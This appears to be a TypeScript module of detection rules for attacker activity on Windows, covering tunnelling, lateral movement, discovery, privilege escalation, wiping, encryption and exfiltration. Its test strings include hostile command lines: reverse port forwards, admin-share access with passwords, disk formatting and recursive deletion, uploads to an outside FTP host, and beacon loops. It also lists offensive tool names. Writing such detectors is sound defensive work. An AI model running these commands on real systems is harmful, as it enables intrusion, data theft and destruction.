/** How attackers look round and move on from a Windows machine: tunnels, shares, remote execution, the map of the network, data on its way out. */
import { behaviour, byTool } from './behaviour.ts';
import { hostClass, isWritablePlace } from './places.ts';
import { all, any, arg, holds, not, onProcess, onScene, onText, said, type Row, type Scene } from './row.ts';

export const WINDOWS_MOVES: readonly Row[] = [
  behaviour('port-forward', ['tunnel', 'T1090.001', 'command-and-control', 'high', 'high'], {
    reason: 'The machine is made to pass connections on to another one.',
    benign: ['access to services in a virtual machine'],
    hits: [
      'netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.1.1.1',
      'plink.exe -N -R 9003:127.0.0.1:3389 -l root -pw x 203.0.113.9',
    ],
    misses: ['netsh interface portproxy show all', 'plink -batch user@srv1 uptime'],
    look: byTool(
      [['netsh'], all(arg(/^portproxy$/), arg(/^(?:add|set)$/))],
      [['plink', 'putty', 'kitty'], arg(/^-[rd]$/)],
      [['reg'], all(arg(/^add$/), holds('portproxy'))],
    ),
  }),
  behaviour('tunnel-program', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
    reason: 'A tool is used that makes the inside of the network reachable from outside.',
    benign: ['developers show their work'],
    hits: ['ngrok.exe tcp 3389', 'frpc.exe -c frpc.ini'],
    misses: ['curl https://ngrok.com/docs'],
    look: onProcess(
      [
        'ngrok',
        'chisel',
        'frpc',
        'frps',
        'ligolo',
        'ligolo-ng',
        'cloudflared',
        'rpivot',
        'plonk',
        'gost',
        'revsocks',
        'iodine',
        'dnscat',
        'dnscat2',
        'localtonet',
        'earthworm',
        'lcx',
        'htran',
        'ptunnel',
        'nps',
        'npc',
        'bore',
        'zrok',
        'tor',
        'devtunnel',
        'tailscaled',
        'gsocket',
        'gs-netcat',
        'dns2tcpc',
        'stowaway',
        'iox',
        'venom',
        'pwnat',
        'powercat',
      ],
      (process, { os }) =>
        os !== 'windows' ||
        /^(?:completion|version|help|status|--?h(?:elp)?|invite|login|tunnel|service)$/.test(
          process.args[0]?.lower ?? '',
        )
          ? undefined
          : (process.args[0] ?? process),
    ),
  }),
  behaviour('admin-share', ['lateral', 'T1021.002', 'lateral-movement', 'medium', 'medium'], {
    reason: 'The hidden administration share of another machine is used.',
    benign: ['administration of servers'],
    hits: [
      'net use \\\\srv1\\C$ Passw0rd /u:corp\\adm',
      'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\a 2>&1',
      'copy a.exe \\\\srv1\\c$\\windows\\temp\\',
    ],
    misses: ['net use \\\\fs01\\public', 'dir C:\\'],
    look: onProcess(['*'], ({ args }) =>
      args.find(({ lower }) => /^["']?\\\\[^\\]{1,100}\\(?:[a-z]|admin|ipc)\$/.test(lower)),
    ),
  }),
  behaviour('impacket-output', ['lateral', 'T1021.003', 'lateral-movement', 'critical', 'high'], {
    reason:
      'The output of a command goes to the administration share of the machine itself: the way of remote execution tools.',
    benign: [],
    hits: [
      'cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1',
      '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat',
    ],
    misses: ['cmd /c dir > C:\\a.txt'],
    look: onText(
      ['\\\\127.0.0.1\\', '\\\\localhost\\', '__output', '\\execute.bat'],
      ({ lower }, at) =>
        /(?:\\(?:admin|c)\$|__output|execute\.bat)/.test(lower.slice(at, at + 60)) && lower.includes('>'),
    ),
  }),
  behaviour('psexec-run', ['lateral', 'T1569.002', 'lateral-movement', 'high', 'medium'], {
    reason: 'A program is run on another machine or as the system with PsExec or its like.',
    benign: ['administration of servers'],
    hits: ['PsExec.exe \\\\srv1 -s cmd', 'psexec64 -accepteula -i -s powershell', 'paexec \\\\10.1.1.1 -u a -p b cmd'],
    misses: ['pslist', 'psping srv1'],
    look: onProcess(
      [
        'psexec',
        'psexec64',
        'paexec',
        'psexesvc',
        'csexec',
        'remcom',
        'winexe',
        'xcmd',
        'smbexec',
        'wmiexec',
        'sharpexec',
      ],
      (process) => process.args[0] ?? process,
    ),
  }),
  behaviour('discovery-domain', ['discovery', 'T1482', 'discovery', 'low', 'high'], {
    reason: 'The domain is asked about its controllers, trusts, groups or administrators.',
    benign: ['administrators look at their domain'],
    hits: ['nltest /dclist:corp', 'net group "Domain Admins" /domain', 'dsquery computer', 'setspn -Q */*'],
    misses: ['nltest /sc_query:corp', 'net user jd'],
    look: byTool(
      [['nltest'], arg(/^\/(?:dclist|domain_trusts|trusted_domains|all_trusts|dsgetdc|parentdomain)/)],
      [['net', 'net1'], all(arg(/^(?:group|user|accounts|localgroup|view)$/), arg(/^\/(?:domain|do|all)/))],
      [['dsquery', 'csvde', 'ldifde', 'gpresult2', 'adfind', 'dsget', 'ldapsearch'], (process) => process.args[0]],
      [['setspn'], any(arg(/^-[tqf]$/))],
      [['klist'], arg(/^(?:tickets|tgt|get)$/)],
    ),
  }),
  behaviour('discovery-burst', ['discovery', 'T1082', 'discovery', 'high', 'medium'], {
    reason:
      'Several different questions about the machine, its users and its network are asked in one line: somebody new looks round.',
    benign: ['support and inventory scripts'],
    hits: [
      'cmd /c whoami & hostname & ipconfig /all & net user',
      'net view /all /domain & nltest /dclist: & net group "domain computers" /domain',
      'sh -c "id; uname -a; ifconfig; netstat -an"',
    ],
    misses: ['ipconfig /all', 'cmd /c hostname && ipconfig'],
    look: onScene((scene) => burst(scene)),
  }),
  behaviour('discovery-privileges', ['discovery', 'T1033', 'discovery', 'low', 'medium'], {
    reason: 'Somebody asks who they are and what they may do.',
    benign: ['scripts check their account'],
    hits: ['whoami /all', 'whoami /priv', 'quser'],
    misses: ['hostname'],
    look: onProcess(['whoami', 'quser', 'qwinsta', 'query'], (process, { os }) =>
      os === 'windows' ? process : undefined,
    ),
  }),
  behaviour('discovery-protection', ['discovery', 'T1518.001', 'discovery', 'medium', 'medium'], {
    reason: 'The machine is asked which security products protect it and what they leave out.',
    benign: ['inventory'],
    hits: [
      'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName',
      'powershell "Get-MpPreference | select ExclusionPath"',
      'cmd /c tasklist | findstr lsass',
    ],
    misses: ['wmic os get caption'],
    look: onText([
      'securitycenter2',
      'antivirusproduct',
      'exclusionpath',
      'disablerealtimemonitoring"',
      'findstr lsass',
      'find "lsass',
      'findstr /i lsass',
      'findstr "lsass',
      'msft_mppreference',
      'windows\\defender',
    ]),
  }),
  behaviour('token-abuse', ['privilege', 'T1134', 'privilege-escalation', 'critical', 'high'], {
    reason: 'A tool is named that turns a service account into the system.',
    benign: [],
    hits: [
      'C:\\x\\PrintSpoofer64.exe -i -c cmd',
      'JuicyPotato.exe -l 1337 -p cmd.exe -t *',
      'powershell "Invoke-TokenManipulation -ImpersonateUser"',
    ],
    misses: ['net user potato /domain'],
    look: onText([
      'printspoofer',
      'juicypotato',
      'badpotato',
      'sweetpotato',
      'godpotato',
      'roguepotato',
      'rottenpotato',
      'efspotato',
      'sharpefspotato',
      'coercedpotato',
      'genericpotato',
      'juicypotatong',
      'petitpotam',
      'tokenmanipulation',
      'incognito.exe',
      'getsystem',
      'printnightmare',
      'hivenightmare',
      'namedpipes_executor',
      'sharpup',
      'powerup.ps1',
      'invoke-allchecks',
      'beroot',
      'winpeas',
      'privesccheck',
      'watson.exe',
      'seatbelt',
      'parentprocess',
      'ppid-spoof',
      'underspecificparent',
      'parentid $pid',
      'samaccountspoofing',
      'zerologon',
      'kerberosrequestorsecuritytoken',
      'sidhistory',
      'dcshadow',
      'skeleton',
    ]),
  }),
  behaviour('safe-mode', ['boot', 'T1562.009', 'defense-evasion', 'high', 'high'], {
    reason: 'The machine is set to start in safe mode, where protection does not run, or without checks of drivers.',
    benign: ['repair', 'development of drivers'],
    hits: ['bcdedit /set safeboot network', 'bcdedit /set {current} testsigning on'],
    misses: ['bcdedit /enum'],
    look: onProcess(
      ['bcdedit'],
      all(
        arg(/^[-/]set$/),
        holds('safeboot', 'testsigning', 'nointegritychecks', 'hypervisorlaunchtype', 'disabledynamictick'),
      ),
    ),
  }),
  behaviour('wiping', ['destruction', 'T1485', 'impact', 'high', 'medium'], {
    reason: 'Data or free space is wiped, or a whole disk emptied.',
    benign: ['disposal of a machine'],
    hits: ['cipher /w:C:', 'format D: /y /q', 'cmd /c del /s /q C:\\Users\\*.*'],
    misses: ['cipher /e C:\\data', 'del /q a.tmp', 'format-list'],
    look: byTool(
      [['cipher'], arg(/^\/w:/)],
      [['format'], all(arg(/^[a-z]:$/), arg(/^\/(?:y|q)$/))],
      [
        ['del', 'rd', 'rmdir', 'erase'],
        all(
          arg(/^\/s$/),
          arg(/^\/q$/),
          arg(/^["']?(?:[a-z]:\\(?:\*|users\\?\*?|windows|$)|%systemdrive%\\?\*?$|[a-z]:\\users\\\*)/),
        ),
      ],
      [['fsutil'], arg(/^setzerodata$/)],
      [['clear-disk'], (process) => process],
    ),
  }),
  behaviour('mass-encryption-windows', ['destruction', 'T1486', 'impact', 'high', 'medium'], {
    reason: 'Files or disks are encrypted with a password from the command line.',
    benign: ['encrypted backups', 'roll-out of disk encryption'],
    hits: [
      'manage-bde -on C: -pw -used',
      'gpg --batch --passphrase x -c C:\\data.zip',
      'rar a -hp1234 -df C:\\x.rar C:\\Users\\',
    ],
    misses: ['manage-bde -status', 'gpg --verify a.sig', 'rar a a.rar docs'],
    look: byTool(
      [
        ['manage-bde'],
        all(arg(/^-(?:on|protectors|lock)$/), any(arg(/^-(?:pw|password|delete|disable|rp|recoverypassword)$/))),
      ],
      [['rar', 'winrar'], ({ args }) => args.find(({ lower }) => /^-hp?\S+|^-p\S{2,}/.test(lower))],
      [['7z', '7za', '7zr'], all(arg(/^a$/), arg(/^-p\S+/))],
      [['gpg', 'gpg2'], all(arg(/^(?:-c|--symmetric)$/), holds('passphrase'))],
    ),
  }),
  behaviour('collection-archive', ['collection', 'T1560.001', 'collection', 'low', 'medium'], {
    reason: 'Folders of users are packed into one archive.',
    benign: ['backups'],
    hits: [
      'powershell "Compress-Archive -Path C:\\Users\\jd\\Documents -DestinationPath $env:TEMP\\a.zip"',
      'rar a -r C:\\x.rar C:\\Users\\jd\\*.docx',
    ],
    misses: ['powershell "Compress-Archive -Path build -DestinationPath dist.zip"'],
    look: onProcess(['compress-archive', 'rar', '7z', '7za', 'makecab', 'winrar', 'tar'], ({ args }, { os }) =>
      os === 'windows'
        ? args.find(({ lower }) =>
            /\\users\\[^\\]+\\(?:documents|desktop|\*)|\.docx?$|\.xlsx?$|\$env:userprofile|%userprofile%/.test(lower),
          )
        : undefined,
    ),
  }),
  behaviour('cloud-upload', ['exfiltration', 'T1567.002', 'exfiltration', 'high', 'medium'], {
    reason: 'Files are copied to cloud storage or sent by a transfer tool.',
    benign: ['backups to the cloud'],
    hits: ['megacmd put C:\\x.zip', 'winscp.com /command "open ftp://a:b@203.0.113.9" "put C:\\x.zip"'],
    misses: ['winscp.com /help'],
    look: byTool(
      [
        [
          'megacmd',
          'mega-put',
          'megatools',
          'megaput',
          'megasync',
          'filezilla',
          'pcloud',
          'restic',
          'gdrive',
          'dropbox_uploader',
        ],
        (process) => process.args[0],
      ],
      [['winscp'], holds('put', 'synchronize')],
    ),
  }),
  behaviour('dns-channel', ['dns-channel', 'T1071.004', 'command-and-control', 'medium', 'medium'], {
    reason: 'Names are looked up that carry data or commands (text records, long or made-up names, a chosen server).',
    benign: ['checks of mail settings'],
    hits: [
      'powershell "1..100 | % { Resolve-DnsName -type TXT \\"a$(Get-Random).example.net\\" }"',
      'nslookup -q=txt a.example.net 203.0.113.9',
    ],
    misses: ['nslookup a.example.net', 'powershell "Resolve-DnsName corp.example"'],
    look: onProcess(['resolve-dnsname', 'nslookup', 'dig'], (process, { layers }) => {
      const words = said(process);
      return /(?:^|\s)(?:-(?:q|type|querytype)[= ]?)?txt(?:\s|$)|-querytype=txt|-q=txt|-type=txt/.test(words) &&
        /get-random|\$\(|foreach|for \(|\{|for \/f|iex|\d+\.\d+\.\d+\.\d+|\|/.test(layers[process.layer]?.lower ?? '')
        ? process.args[0]
        : undefined;
    }),
  }),
  behaviour('plugin-install', ['persistence-plugin', 'T1505', 'persistence', 'medium', 'medium'], {
    reason:
      'A part is put into a server or program that then runs it (a mail agent, a web module, a compatibility patch, a start hook).',
    benign: ['installation of the product that it belongs to'],
    hits: [
      'appcmd.exe install module /name:a /image:C:\\x\\a.dll',
      'sdbinst.exe C:\\ProgramData\\a.sdb',
      'powershell "Install-TransportAgent -Name a -TransportAgentFactory b -AssemblyPath c"',
      'set DOTNET_STARTUP_HOOKS=C:\\x\\a.dll',
    ],
    misses: ['appcmd list site', 'sdbinst -u a.sdb'],
    look: byTool(
      [['appcmd'], all(arg(/^(?:install|add)$/), arg(/^module/))],
      [
        ['sdbinst'],
        ({ args }) =>
          args.find(({ lower }) => /\.sdb["']?$/.test(lower) && !args.some(({ lower: flag }) => flag === '-u')),
      ],
      [
        ['install-transportagent', 'enable-transportagent', 'new-webglobalmodule', 'enable-webglobalmodule'],
        (process) => process,
      ],
      [
        ['set', 'setx', 'export'],
        ({ args }) =>
          args.find(({ lower }) =>
            /^"?(?:dotnet_startup_hooks|cor_enable_profiling|cor_profiler|coreclr_profiler|complus_|__psLockdownPolicy|java_tool_options|psmodulepath)=/i.test(
              lower,
            ),
          ),
      ],
    ),
  }),
  behaviour('trust-marks-off', ['trust', 'T1553.005', 'defense-evasion', 'medium', 'medium'], {
    reason: 'The mark that says a file came from the internet is removed, or an image is mounted that carries none.',
    benign: ['administrators unblock a script'],
    hits: [
      'powershell "Unblock-File -Path C:\\Users\\jd\\Downloads\\a.exe"',
      'powershell "Mount-DiskImage -ImagePath C:\\Users\\jd\\Downloads\\a.iso"',
    ],
    misses: ['powershell "Get-Item a -Stream *"', 'certutil -store root'],
    look: byTool(
      [['unblock-file'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
      [['mount-diskimage'], ({ args }) => args.find(({ lower }) => isWritablePlace(lower))],
    ),
  }),
  behaviour('remote-support-tool', ['remote-access', 'T1219', 'command-and-control', 'high', 'medium'], {
    reason: 'A remote support program is set up without a window or with a password in the line.',
    benign: ['roll-out of the support tool of the company'],
    hits: [
      'C:\\ProgramData\\anydesk.exe --set-password',
      'cmd /c echo x | anydesk.exe --set-password',
      'msiexec /i ScreenConnect.ClientSetup.msi /qn',
      'anydesk.exe --install C:\\x --silent',
    ],
    misses: ['"C:\\Program Files\\AnyDesk\\AnyDesk.exe" --tray'],
    look: onText(
      [
        'anydesk',
        'screenconnect',
        'rustdesk',
        'atera',
        'splashtop',
        'ammyy',
        'ultraviewer',
        'meshagent',
        'tacticalrmm',
        'remoteutilities',
        'netsupport',
        'connectwise',
        'dwagent',
        'action1',
        'supremo',
        'simplehelp',
        'dameware',
        'radmin',
        'tightvnc',
        'ultravnc',
        'logmein',
      ],
      ({ lower }) =>
        /--set-password|--silent|\/qn|--password|-silent|\/s\b|\/verysilent|-fullinstall|integratorlogin|--get-id|--install|\/quiet|downloadfile|outfile|invoke-webrequest|curl/.test(
          lower,
        ),
    ),
  }),
  behaviour('rule-of-fetch-address', ['beacon', 'T1071.001', 'command-and-control', 'medium', 'low'], {
    reason: 'A command line tool calls a bare address in a loop, or pretends to be a browser.',
    benign: ['tests of a site'],
    hits: ['powershell "while($true){iwr http://203.0.113.9/a}"', 'curl -s -A "Mozilla/5.0" http://203.0.113.9/'],
    misses: ['curl https://api.corp.example/'],
    look: onProcess(['curl', 'wget', 'invoke-webrequest', 'invoke-restmethod'], (process, { layers }) => {
      const url = process.args.find(({ role }) => role === 'url');
      const isOdd = url !== undefined && /^(?:ip|integer-ip|dynamic-dns|tunnel)$/.test(hostClass(url.lower));
      return isOdd &&
        (process.args.some(({ lower }) => /^(?:-a|--user-agent|-useragent)$/.test(lower)) ||
          /while ?\(|for ?\(\$i|for ?\(;;/.test(layers[process.layer]?.lower ?? ''))
        ? url
        : undefined;
    }),
  }),
];

const QUESTIONS = new Set([
  'whoami',
  'hostname',
  'ipconfig',
  'systeminfo',
  'tasklist',
  'netstat',
  'arp',
  'route',
  'net',
  'nltest',
  'quser',
  'qwinsta',
  'query',
  'nslookup',
  'nbtstat',
  'gpresult',
  'id',
  'uname',
  'ifconfig',
  'ip',
  'w',
  'who',
  'last',
  'ps',
  'lsof',
  'ss',
  'sw_vers',
  'system_profiler',
  'dscl',
  'groups',
  'getent',
  'get-process',
  'get-service',
  'get-localuser',
  'get-localgroup',
  'get-netipaddress',
  'get-nettcpconnection',
  'get-computerinfo',
  'driverquery',
  'ver',
  'dsquery',
  'klist',
  'setspn',
  'cmdkey',
  'lscpu',
  'ioreg',
  'scutil',
  'csrutil',
  'dsquery',
  'adfind',
]);

/** Different questions, so that one asked of many machines is no burst. */
function burst({ processes }: Scene) {
  const asked = new Set<string>();
  for (const { name, args } of processes) {
    if (!QUESTIONS.has(name)) continue;
    if (/^net1?$/.test(name)) {
      const verb = args[0]?.lower ?? '';
      if (
        /^(?:user|group|localgroup|view|accounts|share|session|use|config)$/.test(verb) &&
        !args.some(({ lower }) => lower === '/add' || lower === '/delete')
      )
        asked.add(`net ${verb}`);
    } else asked.add(name);
  }
  const first = processes.find(({ name }) => QUESTIONS.has(name));
  return asked.size >= 3 && first !== undefined
    ? { layer: first.layer, start: first.span.start, end: first.span.end }
    : undefined;
}
